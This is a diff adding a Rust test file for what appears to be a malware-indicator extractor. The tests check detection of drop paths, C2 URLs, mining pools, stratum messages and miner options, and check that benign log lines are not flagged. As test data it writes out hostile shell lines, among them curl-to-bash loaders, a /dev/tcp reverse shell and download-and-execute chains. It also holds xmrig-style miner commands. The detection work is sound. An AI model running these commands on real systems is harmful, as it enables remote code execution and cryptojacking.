@@ -1,0 +1,281 @@
+#![allow(clippy::unwrap_used)]
+//! What must be told, and what must not, by kind.
+
+use crate::carve::{Carved, Found, Stream};
+
+fn carve(text: &str) -> Vec<Carved> {
+    let mut found = Found::default();
+    Stream::new(&mut found, 0).feed(text.as_bytes());
+    found.finish().0
+}
+
+fn shown(carved: &[Carved]) -> String {
+    carved
+        .iter()
+        .map(|c| {
+            format!(
+                "\n  {} {} ({}) {:?}",
+                c.kind,
+                String::from_utf8_lossy(&c.value),
+                c.why,
+                c.detail
+            )
+        })
+        .collect()
+}
+
+fn of(text: &str, kind: &str) -> Vec<String> {
+    carve(text)
+        .into_iter()
+        .filter(|c| c.kind == kind)
+        .map(|c| String::from_utf8(c.value).unwrap())
+        .collect()
+}
+
+fn all_of(kind: &str, cases: &[(&str, &str)]) {
+    for (text, value) in cases {
+        assert_eq!(of(text, kind), [*value], "in {text:?}:{}", shown(&carve(text)));
+    }
+}
+
+fn none_of(kinds: &[&str], texts: &[&str]) {
+    for text in texts {
+        let wrong: Vec<Carved> =
+            carve(text).into_iter().filter(|c| kinds.contains(&c.kind)).collect();
+        assert!(wrong.is_empty(), "in {text:?}:{}", shown(&wrong));
+    }
+}
+
+#[test]
+fn drop_messages_in_many_words() {
+    all_of(
+        "drop",
+        &[
+            (
+                "[1795329397] Payload dropped to /usr/sbin/rsyslogd-worker",
+                "/usr/sbin/rsyslogd-worker",
+            ),
+            ("payload written to /tmp/.x/agent", "/tmp/.x/agent"),
+            ("Binary saved as '/var/tmp/kworker'", "/var/tmp/kworker"),
+            ("module extracted into /lib/modules/x.ko", "/lib/modules/x.ko"),
+            ("file dropped at: /dev/shm/a", "/dev/shm/a"),
+            (
+                "Successfully installed implant to /usr/local/bin/sshd-helper",
+                "/usr/local/bin/sshd-helper",
+            ),
+            ("stage2 was downloaded to /tmp/s2.", "/tmp/s2"),
+            (
+                "copied itself: the binary was copied to /usr/bin/systemd-udev",
+                "/usr/bin/systemd-udev",
+            ),
+            ("executable has been stored in /opt/.cache/run", "/opt/.cache/run"),
+            ("dropping payload to \"/tmp/p q\"", "/tmp/p"),
+            ("Wrote payload to /tmp/x1", "/tmp/x1"),
+            ("miner unpacked to /root/.cfg/m", "/root/.cfg/m"),
+            ("INFO loader: agent binary placed under /usr/lib/.a/agent", "/usr/lib/.a/agent"),
+            ("decrypted 40960 bytes of payload; payload decrypted to /tmp/dec", "/tmp/dec"),
+        ],
+    );
+    all_of(
+        "drop-format",
+        &[
+            ("Payload dropped to: %s", "Payload dropped to: %s"),
+            ("[%ld] Payload dropped to %s", "Payload dropped to %s"),
+            ("binary written to %s", "binary written to %s"),
+            ("writing payload into '%s' (%d bytes)", "writing payload into '%s' (%d bytes)"),
+        ],
+    );
+}
+
+#[test]
+fn honest_programs_put_files_too() {
+    none_of(
+        &["drop", "drop-format", "run"],
+        &[
+            "Unpacking cron (3.0pl1-162) over (3.0pl1-150) ...",
+            "Setting up libssl3:amd64 (3.0.15-1~deb12u1) ...",
+            "Preparing to unpack .../archives/cron_3.0pl1-162_amd64.deb ...",
+            "dpkg: warning: unable to delete old directory '/var/lib/x': Directory not empty",
+            "Get:1 http://deb.debian.org/debian bookworm/main amd64 cron amd64 3.0 [98 kB]",
+            "rsyslogd: imuxsock: Acquired UNIX socket '/run/systemd/journal/syslog' (fd 3) from systemd.",
+            "Created symlink /etc/systemd/system/multi-user.target.wants/cron.service -> /lib/systemd/system/cron.service.",
+            "Started cron.service - Regular background program processing daemon.",
+            "gcc: note: dependency file written to /tmp/build/x.d is log file written to /tmp/x.log",
+            "Cloning into '/root/project'...",
+            "HEAD is now at 1234abc log file written to /var/log/app.log",
+            "configuration file saved to /etc/app.conf",
+            "pid file written to /run/app.pid",
+            "Core file was dumped to /var/crash/x",
+            "The output was written to /dev/null",
+            "bad payload length: payload started at offset=3 was installed in 1999",
+            "worker process started",
+            "agent started on port 80",
+            "payload length written to %d",
+            "the program is installed in the path, as root",
+        ],
+    );
+}
+
+#[test]
+fn run_messages() {
+    all_of(
+        "run",
+        &[
+            ("[%ld] Payload started", "Payload started"),
+            ("Payload executed", "Payload executed"),
+            ("implant was launched, pid 4242", "implant was launched, pid 4242"),
+        ],
+    );
+}
+
+#[test]
+fn urls_without_boilerplate() {
+    all_of(
+        "url",
+        &[
+            ("GET http://102.208.3.5/cc/index.html.", "http://102.208.3.5/cc/index.html"),
+            ("(https://evil-host.top:8443/a?b=c#d)", "https://evil-host.top:8443/a?b=c#d"),
+            ("xxhttp://update.bad.site/x.sh\"", "http://update.bad.site/x.sh"),
+            ("http://user:pw@host.bad.site/", "http://user:pw@host.bad.site/"),
+        ],
+    );
+    none_of(
+        &["url"],
+        &[
+            "http://www.w3.org/2000/svg",
+            "https://bugs.launchpad.net/ubuntu/",
+            "https://www.gnu.org/software/bash/",
+            "http://%s:%d/",
+            "http://localhost:80/",
+            "http://127.0.0.1/",
+            "https://curl.se/docs/",
+            "https://www.openssl.org/",
+            "http://1",
+            "://x",
+        ],
+    );
+}
+
+#[test]
+fn pools_by_name_and_by_context() {
+    all_of(
+        "pool",
+        &[
+            ("connect ap.luckpool.net:3956 now", "ap.luckpool.net:3956"),
+            (
+                "xmrig -o pool.example-miners.org:3333 -u someone -p x",
+                "pool.example-miners.org:3333",
+            ),
+            ("./kworker -a rx/0 -o 203.0.113.66:3333 -u someone -p x", "203.0.113.66:3333"),
+            ("stratum+ssl://0xabc.worker:pass@198.51.100.4:443", "198.51.100.4:443"),
+            (
+                r#"{"id":1,"method":"mining.subscribe","params":["agent",null,"mine.hidden.host","3857"]}"#,
+                "mine.hidden.host:3857",
+            ),
+        ],
+    );
+    none_of(
+        &["pool", "domain"],
+        &["notluckpool.net:3956", "luckpool.net.evil.org", "client.cc:120", "curl -o out.txt:80 x"],
+    );
+}
+
+#[test]
+fn addresses_and_what_only_looks_like_one() {
+    all_of(
+        "address",
+        &[
+            ("203.0.113.99:3956", "203.0.113.99:3956"),
+            ("server=203.0.113.99\n", "203.0.113.99"),
+            ("\u{0}203.0.113.66\u{0}", "203.0.113.66"),
+            ("dial 203.0.113.99 3956", "203.0.113.99:3956"),
+        ],
+    );
+    none_of(
+        &["address"],
+        &[
+            "version 1.2.3.4",
+            "1.2.3.4.5:80",
+            "2.5.29.15",
+            "127.0.0.1:80",
+            "0.0.0.0:22",
+            "256.1.1.1:80",
+            "1.2.3.4:0",
+            "1.2.3.4:99999",
+            "dial 203.0.113.6`",
+            "libfoo-1.2.3.4-5",
+            "10:20:30.40",
+        ],
+    );
+}
+
+#[test]
+fn shell_lines() {
+    for line in [
+        "* * * * * root curl -s http://198.51.100.1/i.sh | bash",
+        "wget -qO- https://bad.site/x | sudo -E sh -s -- -y",
+        "echo aGVsbG8= | base64 -d | sh",
+        "cd /tmp; wget http://198.51.100.1/m; chmod +x m && ./m",
+        "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1",
+        "bash -c \"$(curl -fsSL http://198.51.100.1/i.sh)\"",
+    ] {
+        assert_eq!(of(line, "shell"), [line], "{}", shown(&carve(line)));
+    }
+    none_of(
+        &["shell"],
+        &[
+            "curl -O http://bad.site/file.tar.gz",
+            "chmod +x configure",
+            "base64 -d file > out",
+            "see /dev/tcp/ in bash's manual",
+            "a || bash is not a pipe, curl http://bad.site/",
+        ],
+    );
+}
+
+#[test]
+fn stratum_in_its_dialects() {
+    all_of(
+        "stratum",
+        &[
+            (r#"{"id":2,"method":"mining.authorize","params":["w","x"]}"#, "mining.authorize"),
+            (
+                r#"{"jsonrpc":"2.0","method":"job","params":{"blob":"07","job_id":"1","target":"b88d0600"}}"#,
+                "job",
+            ),
+            (
+                r#"{"id":3,"method": "submit","params":{"id":"1","job_id":"2","nonce":"3","result":"4"}}"#,
+                "submit",
+            ),
+            (r#"{"id":1,"method":"eth_submitLogin","params":["0x00"]}"#, "eth_submitLogin"),
+            ("EthereumStratum/1.0.0", "EthereumStratum/"),
+            ("stratum+tcp://", "stratum+tcp://"),
+        ],
+    );
+    none_of(
+        &["stratum"],
+        &[
+            r#"{"method":"login","user":"bob"}"#,
+            r#"{"job_id":"1","state":"done"}"#,
+            r#"{"method":"GET"}"#,
+            "stratum of society",
+        ],
+    );
+}
+
+#[test]
+fn miner_configurations_and_options() {
+    assert_eq!(of("\"donate-level\": 1,\n\"cpu\": {}", "miner-config"), ["donate-level=1"]);
+    assert_eq!(
+        of(r#"s":[{"algo":"rx/0","url":"203.0.113.7:443","user":"me","pa"#, "miner-config"),
+        ["url=203.0.113.7:443 user=me algo=rx/0"]
+    );
+    assert_eq!(
+        of("kworker --algo=rx/0 --donate-level 0", "miner-option"),
+        ["--algo=rx/0", "--donate-level=0"]
+    );
+    none_of(
+        &["miner-config", "miner-option"],
+        &["gpg --algo RSA", r#"{"algo":"aes","host":"x"}"#, r#"{"pools":["a","b"]}"#],
+    );
+}
